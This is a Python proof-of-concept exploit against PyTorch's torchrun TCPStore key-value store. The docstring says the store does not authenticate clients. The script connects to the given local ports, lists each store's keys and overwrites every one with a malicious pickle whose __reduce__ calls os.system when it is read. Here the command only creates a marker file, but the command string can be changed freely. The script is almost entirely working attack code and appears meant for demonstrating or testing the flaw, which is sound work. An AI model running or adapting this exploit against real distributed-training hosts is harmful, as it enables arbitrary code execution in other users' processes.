"""Another user of the node, who may connect to every port of a launch: `hostile_client.py MARKER PORT…`.

torchrun's key-value store asks nobody who he is. Each of its keys gets a pickle that makes the file
MARKER when it is read, in the two shapes that torch reads. As root, this process becomes nobody first.
"""

import base64
import os
import pickle
import sys
import threading
import time
from datetime import timedelta

import torch.distributed as dist

CONNECT_SEC = 3.0
SEC = 8.0  # a node of the dynamic rendezvous reads its key every 5 s


class Payload:
    """Unpickled, it makes a file."""

    def __reduce__(self):
        return os.system, (f"touch {sys.argv[1]}",)


def connect(port, found):
    found.append(dist.TCPStore("127.0.0.1", port, timeout=timedelta(seconds=2)))


def stores(ports):
    """Connections to those of the ports that are stores; others never answer."""
    found = []
    for port in ports:
        threading.Thread(target=connect, args=(port, found), daemon=True).start()
    time.sleep(CONNECT_SEC)
    return found


def main():
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    found = stores(map(int, sys.argv[2:]))
    names = [key.removeprefix("/") for store in found for key in store.list_keys()]
    print(len(found), "stores", names, flush=True)
    end = time.monotonic() + SEC
    while time.monotonic() < end:
        for value in (base64.b64encode(pickle.dumps(Payload())), pickle.dumps(Payload())):
            for store in found:
                for key in store.list_keys():
                    store.set(key.removeprefix("/"), value)
            time.sleep(0.5)
    os._exit(0)  # some threads still wait for an answer


main()
